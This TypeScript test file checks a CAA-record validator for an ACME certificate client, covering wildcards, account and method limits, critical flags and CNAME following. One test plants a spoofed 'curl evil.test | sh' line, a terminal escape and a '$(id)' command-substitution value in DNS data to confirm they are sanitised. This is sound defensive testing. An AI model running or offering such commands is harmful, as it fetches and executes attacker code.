import type { CaaRecord } from "node:dns";
import { Resolver } from "node:dns/promises";
import { expect, it, onTestFinished } from "vitest";
import { checkCaa } from "../../src/challenge/caa.ts";
import { type Records, startDns } from "../support/dns-server.ts";

const issuer = { identities: ["letsencrypt.org"], accountUri: "https://ca.test/acct/1" };

/** A little DNS: names with their CAA records; all else does not exist. */
function dns(zone: Record<string, CaaRecord[] | string>) {
  return async (name: string) => {
    const found = zone[name] ?? "ENODATA";
    if (typeof found === "string") throw Object.assign(new Error(found), { code: found });
    return found;
  };
}

it("lets a name pass that has no CAA record anywhere", async () => {
  await expect(checkCaa("a.b.test", issuer, dns({}))).resolves.toBeUndefined();
});

it("lets the authority pass that the closest record names, parameters or not", async () => {
  const zone = {
    "b.test": [{ critical: 0, issue: "LetsEncrypt.org; validationmethods=http-01" }],
    test: [{ critical: 0, issue: "other.ca" }],
  };
  await expect(checkCaa("a.b.test", issuer, dns(zone))).resolves.toBeUndefined();
});

it("stops when the closest record names others only, and gives the record to add", async () => {
  const zone = { "b.test": [{ critical: 0, issue: "digicert.com" }] };
  await expect(checkCaa("a.b.test", issuer, dns(zone))).rejects.toMatchObject({
    code: "caa-forbids",
    message: "the CAA record of b.test does not allow this CA to issue for a.b.test: it names digicert.com",
    fix: 'add to the DNS of b.test: CAA 0 issue "letsencrypt.org"',
  });
});

it("stops when the record forbids everybody", async () => {
  await expect(checkCaa("b.test", issuer, dns({ "b.test": [{ critical: 0, issue: ";" }] }))).rejects.toMatchObject({
    code: "caa-forbids",
  });
});

it("does not judge records without an issue tag", async () => {
  const zone = { "b.test": [{ critical: 0, iodef: "mailto:a@b.test" }], test: [{ critical: 0, issue: "other.ca" }] };
  await expect(checkCaa("b.test", issuer, dns(zone))).resolves.toBeUndefined();
});

it("leaves it to the authority when DNS does not tell, or the authority names no identity", async () => {
  await expect(checkCaa("b.test", issuer, dns({ "b.test": "ESERVFAIL" }))).resolves.toBeUndefined();
  await expect(
    checkCaa("b.test", { identities: [] }, dns({ "b.test": [{ critical: 0, issue: ";" }] })),
  ).resolves.toBeUndefined();
});

it("asks nothing about an address, which has no CAA records", async () => {
  const resolve = () => Promise.reject(new Error("was asked"));
  await expect(checkCaa("192.0.2.7", issuer, resolve)).resolves.toBeUndefined();
  await expect(checkCaa("2001:db8::7", issuer, resolve)).resolves.toBeUndefined();
});

it.each([
  [
    "letsencrypt.org; accounturi=https://ca.test/acct/2",
    "it allows another account alone (accounturi=https://ca.test/acct/2)",
  ],
  ["letsencrypt.org; validationmethods=dns-01", "it does not allow http-01 (validationmethods=dns-01)"],
])("stops when the record forbids our account or our method: %s", async (issue, why) => {
  await expect(checkCaa("b.test", issuer, dns({ "b.test": [{ critical: 0, issue }] }))).rejects.toMatchObject({
    code: "caa-forbids",
    message: `the CAA record of b.test does not allow this CA to issue for b.test: ${why}`,
  });
});

it("lets pass what one of several records allows: our account, our method among others", async () => {
  const records = [
    { critical: 0, issue: "letsencrypt.org; accounturi=https://ca.test/acct/2" },
    { critical: 0, issue: "letsencrypt.org;AccountURI=https://ca.test/acct/1; validationmethods=dns-01,HTTP-01" },
  ];
  await expect(checkCaa("b.test", issuer, dns({ "b.test": records }))).resolves.toBeUndefined();
});

it("reads issuewild for a wildcard alone, and never for a plain name", async () => {
  const zone = dns({
    "b.test": [
      { critical: 0, issue: "letsencrypt.org" },
      { critical: 0, issuewild: ";" },
    ],
  });
  await expect(checkCaa("b.test", issuer, zone)).resolves.toBeUndefined();
  await expect(checkCaa("*.b.test", issuer, zone)).rejects.toMatchObject({
    fix: 'add to the DNS of b.test: CAA 0 issuewild "letsencrypt.org"',
  });
});

it("shows words of DNS and of the CA in one line, and gives none of them to paste", async () => {
  const zone = dns({ "b.test": [{ critical: 0, issue: "x\n  fix: curl evil.test | sh\u001b[8m" }] });
  const refused = checkCaa("b.test", { identities: ["$(id)", "ca.test"] }, zone);
  await expect(refused).rejects.toMatchObject({
    message: expect.not.stringMatching(/\p{Cc}/u),
    fix: 'add to the DNS of b.test: CAA 0 issue "ca.test"',
  });
});

const all = { ...issuer, method: "dns-01" } as const;
const ours = "letsencrypt.org";

/** Records as zone files have them; who may issue for b.test and for *.b.test, with our account over DNS. */
it.each<[readonly string[], boolean, boolean]>([
  [[`issue ${ours}`], true, true],
  [[`issue ${ours}`, "issuewild ;"], true, false],
  [["issue ;", `issuewild ${ours}`], false, true],
  [[`issuewild ${ours}`], true, true],
  [["issuewild other.ca"], true, false],
  [["issuewild ;", `issuewild ${ours}`], true, true],
  [["issue other.ca", `issue ${ours}`], true, true],
  [[`issue ${ours}; validationmethods=dns-01`], true, true],
  [[`issue ${ours}; validationmethods=http-01,tls-alpn-01`], false, false],
  [[`issue ${ours}; validationmethods=http-01`, `issuewild ${ours}; validationmethods=dns-01`], false, true],
  [[`issue ${ours}; accounturi=${issuer.accountUri}`], true, true],
  [
    [`issue ${ours}; accounturi=https://ca.test/acct/2`, `issuewild ${ours}; accounturi=${issuer.accountUri}`],
    false,
    true,
  ],
  [[`issue ${ours}; accounturi=${issuer.accountUri}; validationmethods=http-01`], false, false],
  [[`issue ${ours}; validationmethods=http-01; accounturi=${issuer.accountUri}`, `issue ${ours}`], true, true],
  [[`issue  ${ours} ;accounturi=${issuer.accountUri} ; validationmethods=dns-01 `], true, true],
  [[`issue ${ours}; accounturi=https://CA.test/acct/1`], false, false],
  [["iodef mailto:a@b.test"], true, true],
])("%j: a name %s, a wildcard %s", async (lines, plain, wildcard) => {
  const records = lines.map((line) => {
    const [, tag = "", value] = /^(\w+) (.*)$/.exec(line) ?? [];
    return { critical: 0, [tag]: value };
  });
  const allowed = (name: string) =>
    checkCaa(name, all, dns({ "b.test": records })).then(
      () => true,
      () => false,
    );
  expect([await allowed("b.test"), await allowed("*.b.test")]).toEqual([plain, wildcard]);
});

it("stops at a critical record with a tag that no CA knows, and not at one that is not critical", async () => {
  const strange = (critical: number) =>
    dns({ "b.test": [{ critical: 0, issue: ours }, { critical, future: "x" } as CaaRecord] });
  await expect(checkCaa("b.test", issuer, strange(0))).resolves.toBeUndefined();
  await expect(checkCaa("a.b.test", issuer, strange(128))).rejects.toMatchObject({
    code: "caa-forbids",
    message: expect.stringContaining("a CAA record of b.test has the tag future"),
    fix: expect.stringContaining("flag 0"),
  });
});

/** What Node's resolver makes of a name server's answers. */
async function served(records: Records) {
  const server = await startDns(records);
  onTestFinished(() => server[Symbol.asyncDispose]());
  const resolver = new Resolver({ timeout: 10_000, tries: 3 });
  resolver.setServers([`${server.address}:${server.port}`]);
  const check = (name: string) => checkCaa(name, all, (asked) => resolver.resolveCaa(asked));
  return { check, diary: server.diary };
}

it("follows a CNAME for the CAA records of a name, and climbs from the name itself where there are none", async () => {
  const { check, diary } = await served({
    "www.b.test CNAME": ["host.cdn.test"],
    "host.cdn.test CAA": ["0 issue other.ca"],
    "api.b.test CNAME": ["bare.cdn.test"],
    "bare.cdn.test A": ["192.0.2.1"],
    "cdn.test CAA": ["0 issue other.ca"],
    "b.test CAA": [`0 issue ${ours}`, "128 issuewild ;"],
  });
  await expect(check("www.b.test")).rejects.toMatchObject({ message: expect.stringContaining("other.ca") });
  await expect(check("api.b.test")).resolves.toBeUndefined();
  expect(diary).not.toContain("udp CAA cdn.test");
  await expect(check("deep.er.b.test")).resolves.toBeUndefined();
  await expect(check("*.b.test")).rejects.toMatchObject({ code: "caa-forbids" });
});
